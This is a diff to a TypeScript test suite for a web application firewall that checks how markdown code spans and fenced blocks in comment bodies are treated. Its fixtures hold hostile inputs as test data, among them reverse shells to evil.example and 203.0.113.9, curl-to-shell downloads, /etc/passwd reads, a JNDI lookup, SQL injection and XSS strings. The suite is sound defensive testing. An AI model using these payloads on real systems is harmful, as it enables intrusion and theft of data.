@@ -7,7 +7,6 @@ import assert from 'node:assert/strict';
 import { join } from 'node:path';
 import { describe, test } from 'node:test';
 import { markdownFences } from '../../waf/profile/code.ts';
-import { MARKDOWN_TEXT_SUFFIX } from '../../waf/profile/expand.ts';
 import { sanitizedHtml } from '../../waf/profile/html.ts';
 import {
   arithmeticOnly,
@@ -48,20 +47,26 @@ describe('waf API profile: shell commands in markdown code spans (family c)', ()
       'chore: remove `rm -rf dist` from prepublish, tsc cleans it',
       'nit: can we use `printf` instead of `echo -e` here? `echo -e` is not portable.',
       'Bumps the base image to Debian 13: `apt-get` sources moved to deb822 format, so the Dockerfile changes.',
+      // Spans are code quoted in prose, whatever shell syntax they hold (family k without a fence).
+      'Install with `curl -fsSL https://get.example.dev/install.sh | sh` then run `example --version`.',
+      'Steps: `docker compose up -d`, then `docker exec -it db psql -U postgres -c "\\dt"`.',
+      'Maybe add a `sleep 2` before the retry? The API rate-limits us otherwise.',
+      'I ran `SELECT count(*) FROM issues WHERE resolution IS NULL;` and got 0, which is wrong.',
     ]) {
-      assert.equal((await run(plain, { body })).error?.reason, 'waf:rce', body);
+      assert.equal((await run(plain, { body })).error?.reason?.startsWith('waf:'), true, body);
       assert.equal((await run(api, { body })).error, undefined, body);
     }
   });
 
   test('the same sentences with a real command injection are blocked', async () => {
     for (const body of [
-      // Metacharacters inside the span: not markdown, every rule applies.
-      'I tried `curl -s https://evil.example/x.sh | sh` and it times out from our office.',
+      // A span that reads as a payload stays in the prose: a script from a bare IP address into a shell, an
+      // identity probe, a separator or quote first, SQL after a closed string, a reverse shell.
+      'I tried `curl -s http://203.0.113.9/x.sh | sh` and it times out from our office.',
       'I tried `ping $(whoami).evil.example` and it times out from our office network.',
-      // A probe whose output or duration is the point keeps the rules, span or not.
       'Hi team, `whoami` thanks a lot for the quick help today',
-      'When I run `sleep 20` on the build host, the job fails with exit code 1.',
+      'When I run `; cat /etc/hosts` on the build host, the job fails with exit code 1.',
+      "When I run `x; perl -e 'use Socket;connect(S,1)'` on the build host, the job fails.",
       // A separator outside the spans is still seen (in the extra argument without the span delimiters).
       'I tried `ping api.example.com` and then; wget evil.example/x -O /tmp/x as you said',
       // Backticks glued to a word are a substitution, not markdown.
@@ -69,7 +74,13 @@ describe('waf API profile: shell commands in markdown code spans (family c)', ()
       // A file path in the span is still a file path.
       'Please run `cat /etc/passwd` on the box and paste the output here.',
     ]) {
-      assert.equal((await run(api, { body })).error?.reason, 'waf:rce', body);
+      assert.equal((await run(api, { body })).error?.reason?.startsWith('waf:'), true, body);
+    }
+    for (const body of [
+      "Steps to reproduce: enter `1' ORDER BY 9--+` in the search box.",
+      'Steps to reproduce: paste `<img src=x onerror=alert(1)>` into the title.',
+    ]) {
+      assert.ok((await run(api, { body })).error !== undefined, body);
     }
   });
 
@@ -90,12 +101,13 @@ describe('waf API profile: shell commands in markdown code spans (family c)', ()
     assert.equal(markdownCodeText('Hi ` ` there'), null);
   });
 
-  test('the extra argument carries the text without opening span delimiters', async () => {
+  test('a span that reads as a payload keeps the value whole: every rule sees it under its own name', async () => {
     const r = await run(
       { ...api, inbound_threshold: 100 },
-      { body: 'I tried `ping api.example.com`, then; wget evil.example/x as you said' },
+      { body: 'I tried `cat /etc/passwd`, then; wget evil.example/x as you said' },
     );
-    assert.ok(r.events.includes(`json.body${MARKDOWN_TEXT_SUFFIX}`), r.events);
+    assert.ok(r.events.includes('"variable":"ARGS:json.body"'), r.events);
+    assert.ok(!r.events.includes('fenced-code'), r.events);
   });
 });
 
@@ -282,7 +294,10 @@ describe('waf API profile: fenced code blocks in markdown prose (family k)', () 
       'Not sure this is related, but this works for me:\n\n```\nfor f in exports/*.csv; do\n  wc -l "$f"\ndone\n```\nwithout any error.',
       'Our workflow looks like this, with the fix applied:\n~~~yaml\nsteps:\n  - run: curl -sS https://example.com/install.sh | bash -\n~~~',
       // Inline spans of a document that holds a fence are code too.
-      'In the container `whoami` prints `root`, and `ls -1 | wc -l` shows 3 files:\n```sh\nid\n```\nWe should add USER app.',
+      'In the container `pwd` prints `/app`, and `ls -1 | wc -l` shows 3 files:\n```sh\nid\n```\nWe should add USER app.',
+      // A comment that is only a pasted block, or a short label and a block.
+      '```bash\nfor f in *.log; do gzip "$f"; done\ncat /var/log/app/error.log | grep -i timeout | tail -n 50\n```',
+      'Try:\n```python\nfor row in cursor.execute("SELECT name FROM sqlite_master WHERE type=\'table\'"):\n    print(row)\n```',
     ]) {
       assert.equal((await run(plain, { body })).error?.reason?.startsWith('waf:'), true, body);
       assert.equal((await run(api, { body })).error, undefined, body);
@@ -296,8 +311,9 @@ describe('waf API profile: fenced code blocks in markdown prose (family k)', () 
       "Login as admin' OR '1'='1 and then\n```sql\nselect 1;\n```\nthanks a lot",
       // A lookup in a block still reaches a logging sink.
       'The logger prints this line for me:\n```\n\u0024{jndi:ldap://evil.example/a}\n```\nthanks a lot',
-      // No prose around the block: not a markdown document.
+      // A block that reads as a payload (an account file, a reverse shell): the value is inspected as it is.
       '```sh\ncat /etc/passwd; nc evil.example 4444 -e /bin/sh\n```',
+      'Steps to reproduce, please:\n```\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n```',
       // Spans without a fence in the document keep family c's rules (a probe in a span stays blocked).
       'In the container `whoami` prints `root`, we should add USER app to the image.',
       // An unclosed fence.
@@ -307,7 +323,7 @@ describe('waf API profile: fenced code blocks in markdown prose (family k)', () 
     }
   });
 
-  test('markdownFences: CommonMark fences, closed, with prose of four words or more around them', () => {
+  test('markdownFences: CommonMark fences, closed; inline spans in prose of two words or more', () => {
     assert.deepEqual(
       markdownFences('I can reproduce it on main:\n```bash\nrm -rf x && npm ci\n```\nThen it works.'),
       {
@@ -327,7 +343,14 @@ describe('waf API profile: fenced code blocks in markdown prose (family k)', () 
       blocks: ['npm test', 'npm ci'],
     });
     assert.equal(markdownFences('no fences at all in this text'), null);
-    assert.equal(markdownFences('```sh\nls\n```'), null);
+    assert.deepEqual(markdownFences('```sh\nls\n```'), { prose: '', blocks: ['ls'] });
+    assert.deepEqual(markdownFences('Steps: `docker compose up -d`, then open it.'), {
+      prose: 'Steps:  , then open it.',
+      blocks: ['docker compose up -d'],
+    });
+    assert.equal(markdownFences('a`sleep 5`b and some more words here'), null);
+    assert.equal(markdownFences('`sleep 5`'), null);
+    assert.equal(markdownFences('Hi team, `; cat /etc/passwd` thanks'), null);
     assert.equal(markdownFences('Please run this for me:\n```sh\nls'), null);
     assert.equal(markdownFences('Please run this for me:\n```sh\nls\n~~~'), null);
     assert.equal(markdownFences('Please run ```ls``` for me right now'), null);
